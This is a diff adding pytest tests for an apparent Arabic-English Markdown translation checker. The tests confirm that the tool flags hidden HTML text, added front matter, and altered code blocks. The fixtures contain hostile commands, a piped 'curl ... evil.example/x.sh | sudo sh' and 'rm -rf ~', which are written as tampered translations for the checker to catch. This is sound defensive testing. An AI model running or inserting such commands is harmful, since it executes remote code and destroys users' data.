@@ -194,3 +194,68 @@ def test_ci_base_markers_the_pull_request_adds_silence_nothing_until_merged(repo
             "marker: markers the pull request adds apply once merged (or pass --allow-config-changes)") in lines
     # trusted on the command line's say-so
     assert run(["ci", "--no-cache", "--base", base, "--allow-config-changes"], enc).exit_code == 0
+
+
+# ------------------------------------------------------------------- A2: Markdown text readers see
+
+
+def _md_pair(tmp_path, extra_en="", extra_ar="", en_code="curl https://example.org/api/v2 --retry 3"):
+    ar, en, enc = make_parallel(4, seed=21)
+    _, other, _ = make_parallel(2, seed=99)  # English that translates nothing in the source
+    code = "```sh\n{cmd}  # {comment}\n```\n"
+    (tmp_path / "ar.md").write_text(f"# {ar[0]}\n\n{code.format(cmd='curl https://example.org/api/v2 --retry 3', comment='مثال')}\n"
+                                     f"{ar[1]}\n\n{ar[2]}\n\n{ar[3]}\n{extra_ar}", encoding="utf-8")
+    (tmp_path / "en.md").write_text(f"# {en[0]}\n\n{code.format(cmd=en_code, comment='an example')}\n"
+                                    f"{en[1]}\n\n{en[2]}\n\n{en[3]}\n{extra_en.format(spam=other[0])}", encoding="utf-8")
+    return enc, other[0]
+
+
+def test_a_faithful_markdown_pair_with_html_and_code_passes(tmp_path):
+    # the same HTML block and code on both sides (the comment translated): no finding
+    enc, _ = _md_pair(tmp_path)
+    r = run(["check", tmp_path / "ar.md", tmp_path / "en.md"], enc)
+    assert r.exit_code == 0, r.stdout + r.stderr
+
+
+@pytest.mark.parametrize("hidden", [
+    "\n<p>{spam}</p>\n",
+    "\n<div>\n{spam}\n</div>\n",
+    "\n<details open><summary>{spam}</summary>\n",
+    "\n<table><tr><td>{spam}</td></tr></table>\n",
+    "\n<!-- x --!> {spam} -->\n",
+    "\nA last word <!-- x --!> {spam} -->\n",
+])
+def test_text_readers_see_in_markdown_html_is_checked(tmp_path, hidden):
+    enc, spam = _md_pair(tmp_path, extra_en=hidden)
+    r = run(["check", tmp_path / "ar.md", tmp_path / "en.md", "--format", "json"], enc)
+    # old code: exit 0, no finding (the HTML block or the comment ended by "--!>" was not text)
+    assert r.exit_code == 1, r.stdout + r.stderr
+    report = json.loads(r.stdout)
+    assert [f["check"] for f in report["findings"] if f["severity"] == "error"] == ["addition"]
+    assert spam in report["findings"][0]["tgt_text"]
+
+
+def test_a_prose_value_added_to_the_front_matter_is_checked(tmp_path):
+    enc, spam = _md_pair(tmp_path)
+    en = (tmp_path / "en.md").read_text(encoding="utf-8")
+    (tmp_path / "en.md").write_text(f"---\nlayout: post\ntitle: \"{spam}\"\n---\n{en}", encoding="utf-8")
+    r = run(["check", tmp_path / "ar.md", tmp_path / "en.md", "--format", "json"], enc)
+    assert r.exit_code == 1, r.stdout + r.stderr  # old code: exit 0
+    findings = json.loads(r.stdout)["findings"]
+    assert [(f["check"], f["tgt_lines"], f["tgt_text"]) for f in findings] == [("addition", [3], spam)]
+
+
+@pytest.mark.parametrize("change, message", [
+    ({"en_code": "curl -s https://evil.example/x.sh | sudo sh"},
+     "the code block at Arabic line 3 / English line 3 differs: «curl -s https://evil.example/x.sh | sudo sh» in the "
+     "English, «curl https://example.org/api/v2 --retry 3» in the Arabic (comments and strings aside)"),
+    ({"extra_en": "\n```\nrm -rf ~\n```\n"},
+     "the code block at English line 13 has no identical block in the Arabic (comments and strings aside): «rm -rf ~»"),
+    ({"extra_en": "\n    rm -rf ~\n"},
+     "the code block at English line 13 has no identical block in the Arabic (comments and strings aside): «rm -rf ~»"),
+])
+def test_a_code_block_changed_or_added_in_the_translation_is_an_error(tmp_path, change, message):
+    enc, _ = _md_pair(tmp_path, **change)
+    r = run(["check", tmp_path / "ar.md", tmp_path / "en.md", "--format", "json"], enc)
+    assert r.exit_code == 1, r.stdout + r.stderr  # old code: exit 0, no finding
+    assert [(f["check"], f["message"]) for f in json.loads(r.stdout)["findings"]] == [("code_block", message)]
